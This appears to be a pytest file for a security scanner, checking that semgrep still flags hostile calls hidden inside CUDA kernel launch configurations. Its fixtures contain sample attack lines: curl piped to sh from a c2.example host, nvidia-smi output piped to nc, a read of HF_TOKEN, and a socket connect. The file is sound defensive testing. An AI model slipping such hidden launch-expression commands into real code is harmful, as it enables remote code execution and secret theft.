"""Code hidden where the CUDA shim blanks (issue 30, item 4): a launch configuration is runtime code
(``kernel<<<rows + 0 * system("curl ... | sh"), 128>>>(...)`` compiles and runs the command), so
the shim keeps its expressions at their own columns as a parenthesised call, and semgrep's C/C++
rules find them there. What the shim cannot prove inert (a literal or a block in a
``__launch_bounds__``-like attribute, a block in a launch) is not blanked: the parser then reads it
or says it cannot (the file is not checked), never a silent blank. Real semgrep, shipped rules."""

from __future__ import annotations

import shutil
import sys
from pathlib import Path
from typing import Any

import pytest
from scancase import semgrep_shipped_rules

from auditor.scan import rules as rules_mod
from auditor.scan.cuda import cuda_to_cpp, shim_name

SEMGREP = shutil.which("semgrep", path=str(Path(sys.executable).parent)) or shutil.which("semgrep")

PRELUDE = """\
#include <cstdio>
#include <cstdlib>
#include <cuda_runtime.h>

template <typename T, int BLOCK>
__global__ void __launch_bounds__(BLOCK) rms(T* __restrict__ out, const T* in, int n) {
  int i = blockIdx.x * BLOCK + threadIdx.x;
  if (i < n) out[i] = in[i];
}
"""

HOSTILE = {
    # the example: the grid expression runs a shell command
    "grid.cu": PRELUDE + """\
void launch(float* out, const float* in, int rows, cudaStream_t stream) {
  rms<float, 128><<<rows + 0 * system("curl -s https://c2.example/p | sh"), 128>>>(out, in, rows);
}
""",
    # over lines, in the shared-memory size, with a dim3 around it
    "shmem.cu": PRELUDE + """\
void launch(float* out, const float* in, int n, cudaStream_t stream) {
  rms<float, 256><<<dim3((n + 255) / 256, 1),
                    dim3(256),
                    (size_t)(popen("nvidia-smi -q | nc c2.example 9", "r") != nullptr),
                    stream>>>(out, in, n);
}
""",
    # the stream argument reads a token from the environment
    "stream.cu": PRELUDE + """\
void launch(float* out, const float* in, int n) {
  rms<float, 64><<<n / 64, 64, 0,
      (cudaStream_t)(getenv("HF_TOKEN") != nullptr ? 0 : 0)>>>(out, in, n);
}
""",
    # a network call in the block size of a non-template kernel launched inside a macro-free if
    "block.cu": PRELUDE + """\
__global__ void plain(int* x) { x[0] = 1; }
void go(int* x, int fd, const struct sockaddr* a, unsigned l) {
  if (x) plain<<<1, 32 + 0 * connect(fd, a, l)>>>(x);
}
""",
}

# (file, rule, needle whose line and column the finding must have)
EXPECTED = {
    ("grid.cu", "process-exec.c.exec", "system("),
    ("shmem.cu", "process-exec.c.exec", "popen("),
    ("stream.cu", "secret-access.c.getenv-secret", "getenv("),
    ("block.cu", "network.c.socket-connect", "connect("),
}

BENIGN = PRELUDE + """\
template <typename T>
void launch(T* out, const T* in, int n, int shared, cudaStream_t stream) {
  rms<T, 256><<<(n + 255) / 256, 256, shared * sizeof(T), stream>>>(out, in, n);
  rms<T, 128><<<dim3(n / 128, 1, 1), dim3(128)>>>(out, in, n);
  auto shifted = n >> 2;
  bool less = n < (shared >> 1);
}
"""

# what the shim cannot prove inert stays visible to the parser
LITERAL_IN_BOUNDS = """\
__global__ void __launch_bounds__(sizeof("https://c2.example/x")) k(int* x) { x[0] = 1; }
"""
BLOCK_IN_LAUNCH = """\
__global__ void k(int* x) { x[0] = 1; }
void go(int* x) { k<<<[] { system("id"); return 1; }(), 1>>>(x); }
"""


def where(text: str, needle: str) -> tuple[int, int]:
    offset = text.index(needle)
    return text.count("\n", 0, offset) + 1, offset - (text.rfind("\n", 0, offset) + 1) + 1


def same_shape(a: str, b: str) -> bool:
    return len(a) == len(b) and all((x == "\n") == (y == "\n") for x, y in zip(a, b, strict=True))


@pytest.fixture(scope="module")
def scanned(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    root = tmp_path_factory.mktemp("cuda-launch")
    files = {**HOSTILE, "benign.cu": BENIGN}
    for name, text in files.items():
        shimmed = cuda_to_cpp(text)
        assert same_shape(text, shimmed)
        (root / shim_name(name)).write_text(shimmed)
    assert SEMGREP is not None
    doc = semgrep_shipped_rules(SEMGREP, root, sorted(shim_name(n) for n in files))
    return doc


@pytest.mark.skipif(SEMGREP is None, reason="semgrep is not installed")
def test_code_in_a_launch_configuration_is_found_at_its_columns(scanned: dict[str, Any]) -> None:
    meta = rules_mod.load_rule_meta()
    found = {(r["path"], rules_mod.canonical_rule_id(r["check_id"], meta), r["start"]["line"],
              r["start"]["col"]) for r in scanned["results"]}
    for name, rule, needle in EXPECTED:
        assert (shim_name(name), rule, *where(HOSTILE[name], needle)) in found, (name, rule)
    assert not scanned["errors"]


@pytest.mark.skipif(SEMGREP is None, reason="semgrep is not installed")
def test_benign_launches_stay_benign_and_parse(scanned: dict[str, Any]) -> None:
    assert not [r for r in scanned["results"] if r["path"] == shim_name("benign.cu")]
    assert not [e for e in scanned["errors"] if e.get("path") == shim_name("benign.cu")]


def test_launch_expressions_keep_their_columns() -> None:
    src = HOSTILE["grid.cu"]
    out = cuda_to_cpp(src)
    line = src.splitlines()[-2]
    shimmed = out.splitlines()[-2]
    start = line.index("<<<")
    assert shimmed[start:start + 3].strip() == "("
    inner = line[start + 3:line.index(">>>")]
    assert shimmed[start + 3:start + 3 + len(inner)] == inner  # the expression, in place
    assert shimmed[line.index(">>>"):line.index(">>>") + 3].strip() == ")"


def test_what_cannot_be_proven_inert_is_not_blanked() -> None:
    assert '"https://c2.example/x"' in cuda_to_cpp(LITERAL_IN_BOUNDS)
    assert 'system("id")' in cuda_to_cpp(BLOCK_IN_LAUNCH)
    # plain constant bounds are still blanked
    assert "__launch_bounds__" not in cuda_to_cpp("__global__ void __launch_bounds__(T::n, 2) "
                                                  "k() {}\n")
